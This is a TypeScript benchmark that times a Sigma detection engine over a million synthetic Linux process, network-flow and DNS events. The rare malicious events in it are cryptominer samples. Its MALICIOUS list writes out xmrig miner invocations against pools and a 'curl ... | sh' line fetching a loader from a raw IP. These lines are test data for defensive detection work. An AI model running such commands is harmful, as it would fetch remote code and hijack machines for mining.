/**
 * Sigma engine benchmark: the whole SigmaHQ collection plus the PB-31 pack over 1M generated
 * events (Linux process, network flow and DNS records shaped like the minerhunt sources write
 * them; mostly benign, about 0.3% mining).
 *
 *   node --import tsx bench/sigma/run.ts [--events N] [--rules DIR...]
 *
 * Events are generated in chunks outside the timed sections; the clock runs only around matching.
 * CPU time is reported beside wall time because a shared machine makes wall time noisy.
 */
import { existsSync } from "node:fs";
import { resolve } from "node:path";
import type { Event } from "../../src/model/index.js";
import { defaultRuleDirs, loadRules, SigmaEngine } from "../../src/detect/sigma/index.js";
import { detectionDraft } from "../../src/detect/sigma/findings.js";

function arg(name: string, fallback: string): string {
  const i = process.argv.indexOf(name);
  return i >= 0 && process.argv[i + 1] ? process.argv[i + 1]! : fallback;
}

const TOTAL = Number(arg("--events", "1000000"));
const CHUNK = 10_000;
const shared = process.env.MINERHUNT_SHARED ?? resolve(import.meta.dirname, "../../../shared");
const sigmahq = resolve(shared, "fixtures/sigmahq");
const ruleDirs = process.argv.includes("--rules")
  ? process.argv.slice(process.argv.indexOf("--rules") + 1).filter((a) => !a.startsWith("--"))
  : [...(existsSync(sigmahq) ? [sigmahq] : []), ...defaultRuleDirs()];

/** Small deterministic PRNG (xorshift32) so runs are comparable. */
let seed = 20261126;
function rand(n: number): number {
  seed ^= seed << 13;
  seed ^= seed >>> 17;
  seed ^= seed << 5;
  return (seed >>> 0) % n;
}
const pick = <T>(list: readonly T[]): T => list[rand(list.length)]!;

const HOSTS = Array.from({ length: 200 }, (_, i) => `web-${String(i).padStart(3, "0")}`);
const USERS = ["root", "www-data", "postgres", "ubuntu", "deploy", "nginx", "redis", "app"];
const BENIGN: readonly (() => [string, string])[] = [
  () => ["/usr/sbin/sshd", `sshd: ${pick(USERS)} [priv]`],
  () => ["/usr/bin/bash", `/bin/bash -c /opt/app/bin/healthcheck --port ${8000 + rand(100)}`],
  () => ["/usr/bin/python3", `/usr/bin/python3 /opt/app/worker.py --queue jobs-${rand(50)} --concurrency ${1 + rand(8)}`],
  () => ["/usr/bin/java", `/usr/bin/java -Xmx${1 + rand(8)}g -jar /srv/app/service-${rand(20)}.jar --spring.profiles.active=prod`],
  () => ["/usr/bin/ls", `ls -la /var/log/app-${rand(30)}`],
  () => ["/usr/bin/grep", `grep -r ERROR /var/log/app/app-${rand(99)}.log`],
  () => ["/usr/bin/sleep", `sleep ${1 + rand(60)}`],
  () => ["/usr/sbin/cron", "/usr/sbin/CRON -f"],
  () => ["/usr/bin/du", `du -sh /var/lib/app-${rand(9)}`],
  () => ["/usr/bin/tar", `tar -czf /backup/db-${rand(1000)}.tar.gz /var/lib/postgresql/data`],
  () => ["/usr/bin/node", `node /srv/web/server.js --port ${3000 + rand(20)}`],
  () => ["/usr/bin/systemctl", `systemctl status nginx.service`],
  () => ["/usr/bin/docker", `docker ps --format {{.Names}}`],
  () => ["/usr/bin/git", `git -C /srv/repo-${rand(10)} pull --ff-only`],
  () => ["/usr/sbin/nginx", "nginx: worker process"],
  () => ["/usr/bin/awk", `awk -F: '{print $1}' /etc/passwd`],
];
const MALICIOUS: readonly (() => [string, string])[] = [
  () => ["/tmp/.x/xmrig", `/tmp/.x/xmrig -o pool.supportxmr.com:3333 -u 4AbC${rand(1e6)} --donate-level=1 -B`],
  () => ["/var/tmp/kswapd0", "/var/tmp/kswapd0 -o stratum+tcp://45.9.148.21:443 --cpu-priority=0"],
  () => ["/usr/bin/bash", "bash -c curl -fsSL http://195.3.146.118/ldr.sh | sh"],
  () => ["/tmp/kdevtmpfsi", "/tmp/kdevtmpfsi"],
];
const DOMAINS = ["api.github.com", "registry.npmjs.org", "s3.amazonaws.com", "www.google.com", "archive.ubuntu.com",
  "sts.amazonaws.com", "pool.ntp.org", "login.microsoftonline.com", "updates.example.com", "cdn.jsdelivr.net"];
const POOLS = ["xmr-eu1.nanopool.org", "pool.supportxmr.com", "gulf.moneroocean.stream", "donate.v2.xmrig.com"];

function ts(i: number): string {
  return new Date(Date.UTC(2026, 10, 20, 0, 0, 0) + i * 10).toISOString();
}

/**
 * One event, built field by field the way the sources build theirs (an object literal with a
 * spread would give V8 objects whose property reads are dozens of times slower than real events').
 */
function makeEvent(i: number): Event {
  const bad = rand(1000) < 3;
  const kind = rand(100);
  const e: Event = {};
  e["@timestamp"] = ts(i);
  e["host.name"] = pick(HOSTS);
  e["log.file.path"] = "bench";
  e["minerhunt.line"] = i + 1;
  if (kind < 60) {
    const [exe, cmd] = (bad ? pick(MALICIOUS) : pick(BENIGN))();
    e["event.dataset"] = "auditd";
    e["event.category"] = ["process"];
    e["event.kind"] = "event";
    e["process.pid"] = 1000 + rand(60000);
    e["process.parent.pid"] = 1 + rand(5000);
    e["process.executable"] = exe;
    e["process.name"] = exe.slice(exe.lastIndexOf("/") + 1);
    e["process.command_line"] = cmd;
    e["process.parent.executable"] = pick(["/usr/bin/bash", "/usr/sbin/cron", "/usr/lib/systemd/systemd", "/usr/sbin/sshd"]);
    e["process.working_directory"] = pick(["/", "/root", "/srv/app", "/tmp"]);
    e["user.name"] = pick(USERS);
  } else if (kind < 85) {
    e["event.dataset"] = "zeek.conn";
    e["event.category"] = ["network"];
    e["network.transport"] = "tcp";
    e["source.ip"] = `10.0.${rand(20)}.${rand(250)}`;
    e["source.port"] = 30000 + rand(30000);
    e["destination.ip"] = `${1 + rand(220)}.${rand(250)}.${rand(250)}.${rand(250)}`;
    e["destination.port"] = bad ? pick([3333, 4444, 14444]) : pick([443, 443, 443, 80, 53, 22, 5432, 6379, 8080]);
    e["source.bytes"] = rand(100000);
    e["destination.bytes"] = rand(1000000);
  } else {
    e["event.dataset"] = "zeek.dns";
    e["event.category"] = ["network", "dns"];
    e["source.ip"] = `10.0.${rand(20)}.${rand(250)}`;
    e["dns.question.name"] = bad ? pick(POOLS) : pick(DOMAINS);
    e["dns.question.type"] = "A";
    e["dns.response_code"] = "NOERROR";
    e["dns.resolved_ip"] = [`${1 + rand(220)}.${rand(250)}.${rand(250)}.${rand(250)}`];
  }
  return e;
}

async function main(): Promise<void> {
  const cpu0 = process.cpuUsage();
  const t0 = performance.now();
  const loaded = await loadRules(ruleDirs);
  const loadWall = performance.now() - t0;
  const loadCpu = (process.cpuUsage(cpu0).user + process.cpuUsage(cpu0).system) / 1000;

  let matches = 0;
  let drafts = 0;
  const engine = new SigmaEngine(loaded.rules, {
    detection: (rule, event) => { matches++; if (detectionDraft(rule, event).observables.length >= 0) drafts++; },
    correlation: () => { matches++; },
  });

  let wall = 0;
  let cpu = 0;
  for (let done = 0; done < TOTAL; done += CHUNK) {
    const n = Math.min(CHUNK, TOTAL - done);
    const events = Array.from({ length: n }, (_, k) => makeEvent(done + k));
    const c = process.cpuUsage();
    const s = performance.now();
    for (const e of events) engine.process(e);
    wall += performance.now() - s;
    const used = process.cpuUsage(c);
    cpu += (used.user + used.system) / 1000;
  }
  engine.finish();

  const rssMb = process.resourceUsage().maxRSS / 1024;
  const rows: [string, string][] = [
    ["rule files / documents", `${loaded.stats.files} / ${loaded.stats.documents}`],
    ["rules compiled / refused / not routed", `${loaded.stats.compiled} / ${loaded.refused.length} / ${loaded.stats.notRouted}`],
    ["load: read + YAML parse", `${loaded.stats.parseMs.toFixed(0)} ms`],
    ["load: compile + link", `${loaded.stats.compileMs.toFixed(0)} ms`],
    ["load total (wall / cpu)", `${loadWall.toFixed(0)} ms / ${loadCpu.toFixed(0)} ms`],
    ["events", `${TOTAL.toLocaleString("en-US")}`],
    ["match time (wall / cpu)", `${wall.toFixed(0)} ms / ${cpu.toFixed(0)} ms`],
    ["events/s (wall)", `${Math.round(TOTAL / (wall / 1000)).toLocaleString("en-US")}`],
    ["events/s (cpu)", `${Math.round(TOTAL / (cpu / 1000)).toLocaleString("en-US")}`],
    ["rules evaluated per routed event", `${(engine.stats.evaluated / Math.max(engine.stats.routed, 1)).toFixed(2)}`],
    ["matches (findings)", `${matches} (${drafts})`],
    ["peak RSS", `${rssMb.toFixed(0)} MB`],
  ];
  const w = Math.max(...rows.map(([k]) => k.length));
  process.stdout.write(`Sigma engine benchmark (node ${process.version})\n`);
  for (const [k, v] of rows) process.stdout.write(`  ${k.padEnd(w)}  ${v}\n`);
}

await main();
